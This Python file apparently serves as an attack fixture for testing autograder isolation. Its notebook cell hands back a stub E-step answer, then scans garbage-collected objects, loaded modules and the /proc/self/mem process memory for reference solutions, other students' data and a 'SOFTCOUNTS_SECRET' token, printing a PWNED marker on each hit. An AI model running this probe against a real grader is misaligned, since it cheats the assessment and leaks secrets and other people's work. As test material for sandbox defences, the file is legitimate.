"""Searches the objects and the memory inherited from the warm server for other students, answers and the secret."""

TRACE = "PWNED_memory"

CELLS = {
    "estep": r"""
import numpy as np


def estep(X, mixture):
    return np.zeros((len(X), len(mixture.p))), 0.0


import gc
import re
import sys

mark = "PWN" + "ED_memory"
needle = re.compile(rb"SOFTCOUNTS_SEC[R]ET=[0-9A-Za-z_-]{8,}")
for thing in gc.get_objects():
    try:
        if type(thing).__module__.startswith(("autograder.exercises", "autograder.reference", "nbgrader")):
            print(mark, type(thing))
        if type(thing).__name__ in ("Casebook", "Exercise", "Mistake"):
            print(mark, type(thing))
    except Exception:
        pass
for name in sys.modules:
    if name.startswith(("autograder.exercises", "autograder.reference", "autograder.casebooks", "nbgrader.api")):
        print(mark, name)
try:
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            low, high, mode = re.match(r"(\w+)-(\w+) (\S+)", line).groups()
            if mode.startswith("rw"):
                try:
                    memory.seek(int(low, 16))
                    data = memory.read(min(int(high, 16) - int(low, 16), 2**26))
                except (OSError, ValueError):
                    continue
                if needle.search(data):
                    print(mark, "secret near", line)
except OSError:
    pass
""",
}
